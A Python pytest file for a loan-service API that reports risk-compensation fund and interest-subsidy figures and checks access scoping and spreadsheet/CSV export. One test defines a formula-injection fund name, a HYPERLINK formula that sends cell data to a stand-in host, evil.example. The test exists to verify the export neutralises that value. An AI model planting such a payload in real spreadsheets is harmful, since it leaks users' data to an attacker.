"""`/instruments/figures` and its export: the funds' and programmes' money agrees with their own figures
after approvals, payments, rejections and withdrawals; the claims and applications counted are those the
caller may list; a few grouped queries whatever the number of funds; user text written as text."""

import io
from decimal import Decimal

import openpyxl
import pytest
from sqlalchemy import event

from loan_service.models import db
from xyd_testing.helpers import csv_rows, xlsx_formulas_and_links

from .instruments import TODAY, bad_loan, claim, create, fund_body, more_tokens, open_loan, program_body, repay_interest
from .support import OTHER_BANK_ID, YANLING_CO

FIGURES = "/api/v1/instruments/figures"
NO_CLAIMS = {"submitted": 0, "approved": 0, "rejected": 0, "paid": 0, "withdrawn": 0}
NO_APPLICATIONS = {"submitted": 0, "approved": 0, "rejected": 0, "paid": 0}


@pytest.fixture
def who(auth_service, tokens):
    return more_tokens(auth_service, tokens)


def post(client, headers, path: str, body: dict | None = None) -> dict:
    resp = client.post(path, json=body or {}, headers=headers)
    assert resp.status_code == 200, resp.json
    return resp.json


def claimed(client, who, fund: dict, loan, loss=50, as_="bank") -> dict:
    resp = claim(client, who[as_], fund["id"], loan.id, loss)
    assert resp.status_code == 201, resp.json
    return resp.json


def paid_interest_loan(app, client, who, **data):
    """A loan disbursed today with 0.4 万元 of interest paid (a 50 % programme computes 0.2)."""
    loan = open_loan(app, TODAY, **data)
    repay_interest(client, who["bank"], loan.id, 0.4, f"LX{loan.id}")
    return loan


@pytest.fixture
def instruments(seeded, client, who):
    """许昌市's fund with a claim in every state (two banks, 魏都区's and 鄢陵县's loans), 禹州市's fund
    without claims, and 许昌市's programme with one application paid and one waiting."""
    city = create(client, who["xuchang"], "/api/v1/funds", fund_body(name="许昌市风险补偿资金池"))
    yuzhou = create(client, who["admin"], "/api/v1/funds", fund_body(name="禹州市风险补偿资金池", region_code="411081",
                                                                      budget=50))
    weidu_paid, weidu_rejected, weidu_settled = bad_loan(seeded), bad_loan(seeded), bad_loan(seeded)
    yanling_other_bank = bad_loan(seeded, company=YANLING_CO, institution_id=OTHER_BANK_ID)
    yanling_waiting = bad_loan(seeded, company=YANLING_CO)

    paid = claimed(client, who, city, weidu_paid)
    post(client, who["xuchang"], f"/api/v1/claims/{paid['id']}/approve", {"amount": 20})
    post(client, who["xuchang"], f"/api/v1/claims/{paid['id']}/pay", {"paid_on": TODAY.isoformat(), "reference": "P1"})
    approved = claimed(client, who, city, yanling_other_bank, as_="other_bank")
    post(client, who["xuchang"], f"/api/v1/claims/{approved['id']}/approve", {"amount": 10})
    rejected = claimed(client, who, city, weidu_rejected)
    post(client, who["xuchang"], f"/api/v1/claims/{rejected['id']}/reject", {"reason": "材料不全"})
    claimed(client, who, city, yanling_waiting)
    # Approved, then the loan is settled: withdrawn, its 5 back in the fund.
    withdrawn = claimed(client, who, city, weidu_settled)
    post(client, who["xuchang"], f"/api/v1/claims/{withdrawn['id']}/approve", {"amount": 5})
    settle = client.post(f"/api/v1/loans/{weidu_settled.id}/repayments", headers=who["bank"], json={
        "paid_on": TODAY.isoformat(), "principal": 120, "interest": 0, "reference": "JQ1"})
    assert settle.status_code == 201 and settle.json["status"] == "settled"

    program = create(client, who["xuchang"], "/api/v1/subsidy-programs", program_body())
    first = client.post(f"/api/v1/subsidy-programs/{program['id']}/applications", headers=who["weidu"],
                        json={"loan_id": paid_interest_loan(seeded, client, who).id}).json
    post(client, who["xuchang"], f"/api/v1/subsidy-applications/{first['id']}/approve")
    post(client, who["xuchang"], f"/api/v1/subsidy-applications/{first['id']}/pay",
         {"paid_on": TODAY.isoformat(), "reference": "T1"})
    waiting = client.post(f"/api/v1/subsidy-programs/{program['id']}/applications", headers=who["yanling"],
                          json={"loan_id": paid_interest_loan(seeded, client, who, company=YANLING_CO).id})
    assert waiting.status_code == 201, waiting.json
    return {"city": city, "yuzhou": yuzhou, "program": program}


def figures(client, who, as_: str, **query) -> dict:
    resp = client.get(FIGURES, headers=who[as_], query_string=query)
    assert resp.status_code == 200, resp.json
    return resp.json


def money(rows: list[dict], key: str) -> Decimal:
    return sum((Decimal(str(row[key])) for row in rows), Decimal(0))


# --- what the figures say ----------------------------------------------------------------------------

def test_the_figures_agree_with_the_funds_and_programmes_own(client, who, instruments):
    answer = figures(client, who, "xuchang")
    assert [f["id"] for f in answer["funds"]] == [instruments["yuzhou"]["id"], instruments["city"]["id"]]
    city = answer["funds"][1]
    own = client.get(f"/api/v1/funds/{city['id']}", headers=who["xuchang"]).json
    assert {k: city[k] for k in ("name", "region_code", "status", "budget", "approved", "paid", "available")} == {
        k: own[k] for k in ("name", "region_code", "status", "budget", "approved", "paid", "available")}
    assert (city["budget"], city["approved"], city["paid"], city["available"]) == (100, 10, 20, 70)
    assert city["claims"] == {"submitted": 1, "approved": 1, "rejected": 1, "paid": 1, "withdrawn": 1}
    assert answer["funds"][0]["claims"] == NO_CLAIMS
    listed = client.get(f"/api/v1/claims?fund_id={city['id']}", headers=who["xuchang"]).json["total"]
    assert sum(city["claims"].values()) == listed == 5

    # Per institution: the approved-not-paid and paid amounts add up to the funds' own.
    assert answer["claims_by_institution"] == [
        {"institution_id": 7, "institution_name": "许昌农商银行", "claims": 4, "approved_amount": 0, "paid_amount": 20},
        {"institution_id": OTHER_BANK_ID, "institution_name": "中原银行许昌分行", "claims": 1, "approved_amount": 10,
         "paid_amount": 0}]
    assert money(answer["claims_by_institution"], "approved_amount") == money(answer["funds"], "approved")
    assert money(answer["claims_by_institution"], "paid_amount") == money(answer["funds"], "paid")

    (program,) = answer["programs"]
    own = client.get(f"/api/v1/subsidy-programs/{program['id']}", headers=who["xuchang"]).json
    assert (program["budget"], program["approved"], program["paid"], program["left"], program["status"]) == (
        own["budget"], own["approved"], own["paid"], own["available"], own["status"])
    assert (program["paid"], program["left"]) == (0.2, 99.8)
    assert program["applications"] == {"submitted": 1, "approved": 0, "rejected": 0, "paid": 1}

    assert answer["totals"] == {
        "fund_budget": 150, "fund_approved": 10, "fund_paid": 20, "fund_available": 120, "claims_open": 1,
        "subsidy_budget": 100, "subsidy_approved": 0, "subsidy_paid": 0.2, "applications_open": 1}
    assert answer["business_date"] == TODAY.isoformat() and answer["region_code"] is None
    assert figures(client, who, "admin") == answer


def test_with_nothing_set_up_the_figures_are_empty_zeros(seeded, client, who):
    answer = figures(client, who, "xuchang")
    assert (answer["funds"], answer["claims_by_institution"], answer["programs"]) == ([], [], [])
    assert set(answer["totals"].values()) == {0}


# --- scope -------------------------------------------------------------------------------------------

def test_a_district_sees_its_line_and_only_its_own_loans_claims_under_the_city(client, who, instruments):
    city_id, yuzhou_id = instruments["city"]["id"], instruments["yuzhou"]["id"]
    weidu = figures(client, who, "weidu_gov")
    # 魏都区: the city's fund (read-only), never 禹州市's; of its claims only those on 魏都区's loans.
    (city,) = weidu["funds"]
    assert city["id"] == city_id and (city["budget"], city["approved"], city["paid"]) == (100, 10, 20)
    assert city["claims"] == {**NO_CLAIMS, "rejected": 1, "paid": 1, "withdrawn": 1}
    assert weidu["claims_by_institution"] == [
        {"institution_id": 7, "institution_name": "许昌农商银行", "claims": 3, "approved_amount": 0, "paid_amount": 20}]
    assert weidu["programs"][0]["applications"] == {**NO_APPLICATIONS, "paid": 1}
    assert weidu["totals"]["claims_open"] == 0 and weidu["totals"]["applications_open"] == 0
    # 禹州市: its own fund and the city's, but none of the city's claims (no loan of 禹州市 among them).
    yuzhou = figures(client, who, "yuzhou")
    assert [f["id"] for f in yuzhou["funds"]] == [yuzhou_id, city_id]
    assert all(f["claims"] == NO_CLAIMS for f in yuzhou["funds"]) and yuzhou["claims_by_institution"] == []
    assert yuzhou["programs"][0]["applications"] == NO_APPLICATIONS
    assert "中原银行许昌分行" not in str(yuzhou) and "许昌农商银行" not in str(yuzhou)


def test_region_code_narrows_to_that_region_and_below_within_the_callers(client, who, instruments):
    narrowed = figures(client, who, "xuchang", region_code="411081")
    assert [f["id"] for f in narrowed["funds"]] == [instruments["yuzhou"]["id"]] and narrowed["programs"] == []
    assert narrowed["region_code"] == "411081" and narrowed["totals"]["fund_budget"] == 50
    assert figures(client, who, "admin", region_code="411000")["totals"]["fund_budget"] == 150
    for path in (FIGURES, f"{FIGURES}/export"):
        # Another district, or the city above: refused, never answered with their figures.
        for region in ("411081", "411000"):
            resp = client.get(path, headers=who["weidu_gov"], query_string={"region_code": region})
            assert resp.status_code == 403 and resp.json["code"] == "forbidden", (path, region)
        assert client.get(path, headers=who["xuchang"], query_string={"region_code": "abc"}).status_code == 422


@pytest.mark.parametrize("role", ["bank", "weidu"])
def test_institutions_and_enterprises_are_refused(seeded, client, who, role):
    for path in (FIGURES, f"{FIGURES}/export"):
        resp = client.get(path, headers=who[role])
        assert resp.status_code == 403 and resp.json["code"] == "forbidden", path
    assert client.get(FIGURES).status_code == 401


def test_a_few_grouped_queries_whatever_the_number_of_funds(seeded, app, client, who):
    def statements() -> int:
        seen = []
        with app.app_context():
            engine = db.engine
        listener = lambda *args: seen.append(args[2])  # noqa: E731
        event.listen(engine, "before_cursor_execute", listener)
        try:
            figures(client, who, "xuchang")
        finally:
            event.remove(engine, "before_cursor_execute", listener)
        return len(seen)

    create(client, who["xuchang"], "/api/v1/funds", fund_body())
    create(client, who["xuchang"], "/api/v1/subsidy-programs", program_body())
    figures(client, who, "xuchang")  # whatever a first answer does once is done
    one = statements()
    assert one >= 4  # the funds, their claims, the programmes, their applications (and the regions)
    for n in range(4):
        create(client, who["xuchang"], "/api/v1/funds", fund_body(name=f"资金池{n}"))
        create(client, who["xuchang"], "/api/v1/subsidy-programs", program_body(name=f"贴息项目{n}"))
    assert statements() == one


# --- the spreadsheet ---------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"详情")资金池'


def test_the_export_has_three_sheets_in_chinese_and_keeps_names_as_text(client, who, instruments):
    create(client, who["xuchang"], "/api/v1/funds", fund_body(name=HOSTILE, budget=1))
    resp = client.get(f"{FIGURES}/export", headers=who["xuchang"])
    assert resp.status_code == 200 and resp.headers["Content-Disposition"].startswith("attachment")
    assert xlsx_formulas_and_links(resp.data) == []
    book = openpyxl.load_workbook(io.BytesIO(resp.data))
    assert book.sheetnames == ["资金池", "代偿（按机构）", "贴息项目"]
    funds = [[cell.value for cell in row] for row in book["资金池"].iter_rows()]
    assert funds[0][:7] == ["资金池", "所属区域", "状态", "资金规模（万元）", "已核准待拨付（万元）", "已拨付（万元）",
                            "可用余额（万元）"]
    assert funds[0][7:] == [f"代偿{status}（笔）" for status in ("待审核", "已核准", "已驳回", "已拨付", "已撤销")]
    assert funds[1][:3] == [HOSTILE, "许昌市", "受理中"] and book["资金池"]["A2"].data_type == "s"
    assert funds[3] == ["许昌市风险补偿资金池", "许昌市", "受理中", 100, 10, 20, 70, 1, 1, 1, 1, 1]
    institutions = [[cell.value for cell in row] for row in book["代偿（按机构）"].iter_rows()]
    assert institutions == [["金融机构", "代偿申请（笔）", "已核准待拨付（万元）", "已拨付（万元）"],
                            ["许昌农商银行", 4, 0, 20], ["中原银行许昌分行", 1, 10, 0]]
    programs = [[cell.value for cell in row] for row in book["贴息项目"].iter_rows()]
    assert programs[1] == ["许昌市首贷贴息", "许昌市", "受理中", 100, 0, 0.2, 99.8, 1, 0, 0, 1]

    rows = csv_rows(client.get(f"{FIGURES}/export?format=csv", headers=who["xuchang"]).data)
    assert rows[0][0] == "资金池" and rows[1][0] == "'" + HOSTILE  # prefixed: never a formula in Excel or WPS
    assert [Decimal(cell) for cell in rows[3][3:7]] == [100, 10, 20, 70]  # exact, as numbers
    assert client.get(f"{FIGURES}/export?format=pdf", headers=who["xuchang"]).status_code == 422
